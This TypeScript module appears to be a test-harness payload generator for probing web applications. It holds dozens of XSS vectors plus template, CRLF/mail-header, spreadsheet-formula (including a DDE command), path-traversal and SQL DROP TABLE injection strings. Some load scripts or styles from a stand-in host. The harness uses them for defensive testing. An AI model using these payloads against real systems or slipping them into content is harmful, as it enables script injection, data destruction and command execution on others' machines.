/** Each payload that is executed calls this, with its number. */
export const PROBE = '__probe';
/** Each element that a payload makes carries this. */
export const MARK = 'data-inj';
/** What a payload would have to ask for. */
export const ELSEWHERE = 'inj.invalid';

/** `#` becomes a call of the probe: short enough for a field of 100 characters. */
const MARKUP: ReadonlyArray<string> = [
  '<script>#</script>',
  '<script data-inj>#</script>',
  '<SCRIPT>#</SCRIPT>',
  '<script src=//inj.invalid/x.js></script>',
  '<script type=module>#</script>',
  '<img data-inj src=x onerror=#>',
  '<img data-inj src=x onerror="#">',
  '<IMG data-inj SRC=x OnErRoR=#>',
  '<img data-inj src=//inj.invalid/p.png>',
  '<svg data-inj onload=#>',
  '<svg data-inj/onload=#>',
  '<svg><script>#</script></svg>',
  '<svg><animate data-inj onbegin=# attributeName=x dur=1s>',
  '<math><mtext><style><img data-inj src=x onerror=#>',
  '<body data-inj onload=#>',
  '<iframe data-inj srcdoc="<script>parent.#</script>">',
  '<iframe data-inj src=javascript:parent.#>',
  '<object data-inj data=javascript:#>',
  '<embed data-inj src=//inj.invalid/e>',
  '<video data-inj><source onerror=#></video>',
  '<audio data-inj src=x onerror=#>',
  '<details data-inj open ontoggle=#>',
  '<input data-inj autofocus onfocus=#>',
  '<select data-inj autofocus onfocus=#>',
  '<marquee data-inj onstart=#>',
  '<a data-inj href=javascript:#>x</a>',
  '<a data-inj href="java\tscript:#">x</a>',
  '<form data-inj action=javascript:#><button>x',
  '<button data-inj formaction=javascript:#>x',
  '<meta data-inj http-equiv=refresh content="0;url=//inj.invalid">',
  '<base data-inj href=//inj.invalid/>',
  '<link data-inj rel=stylesheet href=//inj.invalid/s.css>',
  '<style data-inj>*{background:url(//inj.invalid/c)}</style>',
  '<div data-inj style="background:url(//inj.invalid/b)">',
  '<div data-inj style=width:expression(#)>',
  '<template data-inj><img src=x onerror=#></template>',
  '<noscript><p title="</noscript><img data-inj src=x onerror=#>">',
  '<xss data-inj onanimationend=# style=animation:x>',
  '<portal data-inj src=//inj.invalid>',
  '<img data-inj src=x:x onerror=\u0023>',
];

/** What closes the place that a text might stand in. */
const BREAKS: ReadonlyArray<string> = [
  '">',
  "'>",
  '</script>',
  '</title>',
  '</style>',
  '</textarea>',
  '-->',
  ']]>',
  '<!--',
  '\u2028',
];

const PLAIN: ReadonlyArray<string> = [
  '" onmouseover="#" x="',
  "' onmouseover='#' x='",
  '" autofocus onfocus="#',
  '` onmouseover=`#`',
  'javascript:#',
  'JaVaScRiPt:#',
  ' javascript:#',
  'java\u0000script:#',
  'data:text/html,<script>#</script>',
  'vbscript:#',
  '{{constructor.constructor("#")()}}',
  '{{#}}',
  '${#}',
  '<%= # %>',
  '#{#}',
  '[[#]]',
  '");#;("',
  "');#;('",
  '";#;//',
  "';#;//",
  '\\";#;//',
  '`;#;`',
  '</script><script>#</script>',
  '{"__proto__":{"x":"</script><script>#</script>"}}',
  '\u003cscript\u003e#\u003c/script\u003e',
  '\\u003cscript\\u003e#\\u003c/script\\u003e',
  '&lt;script&gt;#&lt;/script&gt;',
  '&#60;script&#62;#&#60;/script&#62;',
  '%3Cscript%3E#%3C/script%3E',
  '＜script＞#＜/script＞',
  '\u202e<script>#</script>',
  '\ufeff<script>#</script>',
  '<scr<script>ipt>#</scr</script>ipt>',
  '<<script>#//<</script>',
  '<script\u00a0>#</script>',
  '}*{background:url(//inj.invalid/c)}',
  '}</style><img data-inj src=x onerror=#>',
  ':root{--accent:url(//inj.invalid/v)}',
  '@import url(//inj.invalid/i);',
  'x\r\nSet-Cookie: inj=1',
  'x\r\n\r\n<script>#</script>',
  'x\nBcc: all@inj.invalid',
  '=HYPERLINK("http://inj.invalid","x")',
  "=cmd|' /C calc'!A0",
  '+1+#',
  '-1-#',
  '@SUM(#)',
  '\t=1+1',
  '../../../<script>#</script>',
  "Robert'); DROP TABLE orders;--",
];

/** Payloads of every kind, each another, the call of each with its own number. */
export function payloads(count: number): ReadonlyArray<string> {
  const kinds = [...new Set([...MARKUP, ...PLAIN])];
  const broken = BREAKS.flatMap((end) => MARKUP.map((markup) => `${end}${markup}`)).toSorted(byHash);
  const chosen = [...new Set([...spread(kinds, count), ...broken])].slice(0, count);
  // In what makes HTML of a JSON text, the number sign itself stands.
  return chosen.map((text, number) => text.replaceAll('#', `${PROBE}(${number})`));
}

/** So many of them, from all over the list. */
function spread(all: ReadonlyArray<string>, count: number): ReadonlyArray<string> {
  const step = Math.max(1, Math.floor(all.length / count));
  return all.filter((_text, index) => index % step === 0);
}

/** An order that is the same each time, and mixes the ways out with what they lead to. */
function byHash(left: string, right: string): number {
  return hash(left) - hash(right);
}

function hash(text: string): number {
  let sum = 7;
  for (let index = 0; index < text.length; index += 1) sum = (sum * 31 + text.charCodeAt(index)) % 1_000_003;
  return sum;
}
